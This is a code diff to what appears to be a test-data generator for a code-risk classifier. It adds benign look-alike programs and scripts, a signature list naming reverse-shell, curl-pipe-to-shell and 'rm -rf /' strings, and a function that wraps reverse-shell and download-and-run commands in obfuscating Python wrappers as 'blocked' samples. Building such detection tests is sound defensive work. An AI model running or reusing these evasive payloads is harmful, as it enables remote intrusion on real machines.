@@ -509,6 +509,250 @@ for v in range(3):
         sh("blocked", f"evasion_sh_blocked_{j:02d}_{v}", body)
 
 
+# =========================== realistic programs and look-alikes ===========================
+REALISTIC_LOW_PY = [
+    # a data-processing script
+    """import csv
+import statistics
+from collections import defaultdict
+
+
+def load(path):
+    rows = []
+    with open(path, newline="") as f:
+        for row in csv.DictReader(f):
+            row["amount"] = float(row["amount"])
+            rows.append(row)
+    return rows
+
+
+def summarize(rows):
+    by_cat = defaultdict(list)
+    for r in rows:
+        by_cat[r["category"]].append(r["amount"])
+    return {k: (len(v), statistics.mean(v), max(v)) for k, v in by_cat.items()}
+
+
+def main():
+    rows = load("transactions.csv")
+    for cat, (n, mean, top) in sorted(summarize(rows).items()):
+        print(f"{cat:<20} {n:>5} {mean:>10.2f} {top:>10.2f}")
+
+
+if __name__ == "__main__":
+    main()
+""",
+    # a tiny web app
+    """from flask import Flask, jsonify, request
+
+app = Flask(__name__)
+TODOS = []
+
+
+@app.route("/todos", methods=["GET"])
+def list_todos():
+    return jsonify(TODOS)
+
+
+@app.route("/todos", methods=["POST"])
+def add_todo():
+    item = request.get_json(force=True)
+    TODOS.append({"id": len(TODOS) + 1, "title": str(item.get("title", ""))})
+    return jsonify(TODOS[-1]), 201
+
+
+if __name__ == "__main__":
+    app.run(port=5000)
+""",
+    # a signature list in a security helper: strings, never executed
+    """SUSPICIOUS = [
+    "nc -e /bin/sh",
+    "bash -i >& /dev/tcp/",
+    "curl http://x | sh",
+    "os.dup2(s.fileno(), 0)",
+    "rm -rf /",
+]
+
+
+def scan(text):
+    return [sig for sig in SUSPICIOUS if sig in text]
+
+
+print(scan(open("suspect.log").read()))
+""",
+    # encrypting one file the user names: no walking, no deleting
+    """import sys
+from cryptography.fernet import Fernet
+
+key = Fernet.generate_key()
+with open("secret.key", "wb") as k:
+    k.write(key)
+data = open(sys.argv[1], "rb").read()
+with open(sys.argv[1] + ".enc", "wb") as out:
+    out.write(Fernet(key).encrypt(data))
+print("encrypted; keep secret.key safe")
+""",
+    # class with a method called system and a variable called socket_dup2
+    """class Shell:
+    def system(self, cmd):
+        return "would run: " + cmd
+
+
+socket_dup2 = Shell()
+print(socket_dup2.system("ls"))
+""",
+]
+for i, body in enumerate(REALISTIC_LOW_PY):
+    for v in range(2):
+        py("low", f"lookalike_py_real_low_{i:02d}_{v}", body, pre="", post="")
+
+REALISTIC_MEDIUM_PY = [
+    # git helper
+    """import subprocess
+import sys
+
+
+def git(*args):
+    return subprocess.run(["git", *args], check=True, capture_output=True, text=True).stdout
+
+
+def main():
+    branch = git("rev-parse", "--abbrev-ref", "HEAD").strip()
+    print("on", branch)
+    if "--pull" in sys.argv:
+        print(git("pull", "--ff-only"))
+
+
+main()
+""",
+    # API client with a token from the environment
+    """import os
+import requests
+
+TOKEN = os.environ["API_TOKEN"]
+
+
+def create_issue(title):
+    r = requests.post("https://api.example.com/issues", json={"title": title},
+                      headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
+    r.raise_for_status()
+    return r.json()["id"]
+
+
+print(create_issue("nightly build failed"))
+""",
+    # monitoring agent: socket + subprocess, but no shell and no fd plumbing
+    """import socket
+import subprocess
+
+ALLOWED = {"uptime": ["uptime"], "disk": ["df", "-h"]}
+conn = socket.create_connection(("monitor.example.com", 9000))
+while True:
+    name = conn.recv(64).decode().strip()
+    if name not in ALLOWED:
+        break
+    out = subprocess.run(ALLOWED[name], capture_output=True).stdout
+    conn.sendall(out)
+""",
+    # reads ~/.ssh/config (not keys) and reports host names to an inventory API
+    """import os
+import requests
+
+hosts = []
+with open(os.path.expanduser("~/.ssh/config")) as f:
+    for line in f:
+        if line.strip().lower().startswith("host "):
+            hosts.append(line.split()[1])
+requests.post("https://inventory.example.com/hosts", json={"hosts": hosts})
+""",
+    # a bounded worker pool using fork
+    """import os
+
+children = []
+for i in range(4):
+    pid = os.fork()
+    if pid == 0:
+        print("worker", i)
+        os._exit(0)
+    children.append(pid)
+for pid in children:
+    os.waitpid(pid, 0)
+""",
+    # downloads a data file (no chmod, no exec)
+    """import urllib.request
+
+URL = "https://example.com/datasets/iris.csv"
+urllib.request.urlretrieve(URL, "iris.csv")
+print(open("iris.csv").read()[:200])
+""",
+]
+for i, body in enumerate(REALISTIC_MEDIUM_PY):
+    for v in range(2):
+        py("medium", f"lookalike_py_real_medium_{i:02d}_{v}", body, pre="", post="")
+
+REALISTIC_SH = {
+    "medium": [
+        """#!/bin/sh
+set -eu
+rm -rf build
+mkdir -p build
+cd build
+cmake .. -DCMAKE_BUILD_TYPE=Release
+make -j"$(nproc)"
+curl -sf -X POST -H 'Content-Type: application/json' -d '{"status":"built"}' https://ci.example.com/hooks/build
+""",
+        """#!/bin/bash
+# rotate our own logs in the working directory
+for f in logs/*.log; do
+  [ -s "$f" ] || continue
+  gzip -c "$f" > "$f.$(date +%F).gz"
+  rm -f "$f"
+done
+""",
+    ],
+    "low": [
+        """#!/bin/sh
+history | tail -n 20
+""",
+        """#!/bin/bash
+# Prints what the disk looks like; never changes anything.
+df -h
+du -sh ./* 2>/dev/null | sort -h | tail -5
+""",
+    ],
+    "high": [
+        """#!/bin/sh
+echo 'export PATH="$PATH:$HOME/.local/bin"' >> ~/.bashrc
+""",
+        """#!/bin/bash
+set -e
+sudo apt-get update
+sudo apt-get install -y build-essential cmake
+""",
+    ],
+}
+for level, bodies in REALISTIC_SH.items():
+    for i, body in enumerate(bodies):
+        for v in range(2):
+            add(level, f"lookalike_sh_real_{level}_{i:02d}_{v}.sh", body)
+
+def wrapper_evasions(h, p, u):
+    dl = f"curl -s {u} | sh"
+    rs = f"bash -i >& /dev/tcp/{h}/{p} 0>&1"
+    return [
+        f'import os\n\ndef run(c):\n    os.system(c)\n\nrun("{dl}")',
+        f'import subprocess\n\ndef sh(cmd, **kw):\n    return subprocess.call(["/bin/bash", "-c", cmd], **kw)\n\nsh("{rs}")',
+        f'import os\nexecute = lambda c: os.popen(c).read()\nexecute("{dl}")',
+        f'import os\n\ndef inner(x):\n    os.system(x)\n\ndef outer(y):\n    inner(y)\n\nouter("{rs}")',
+        f'import base64\n\ndef unpack(p):\n    return base64.b64decode(p)\n\nexec(unpack("{b64("import os; os.system(" + repr(dl) + ")")}"))',
+        f'import subprocess as s\nP = s.Popen\nP("{dl}", shell=True)',
+    ]
+
+for v in range(3):
+    h, p, u = rng.choice(HOSTS), rng.choice(PORTS), rng.choice(URLS)
+    for j, body in enumerate(wrapper_evasions(h, p, u)):
+        py("blocked", f"evasion_py_wrapper_{j:02d}_{v}", body)
+
 def main():
     for level in ("low", "medium", "high", "blocked"):
         d = os.path.join(ROOT, level)
